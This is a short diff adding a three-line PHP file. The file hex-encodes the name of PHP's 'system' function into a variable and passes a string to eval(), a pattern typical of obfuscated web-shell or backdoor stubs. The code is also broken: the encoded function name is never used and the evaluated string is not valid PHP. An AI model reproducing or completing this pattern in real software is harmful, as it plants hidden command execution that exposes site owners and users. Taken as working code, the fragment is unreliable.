@@ -0,0 +1,3 @@
+<?php
+$f = "\x73\x79\x73\x74\x65\x6d";
+$k = "abc123"; eval($k);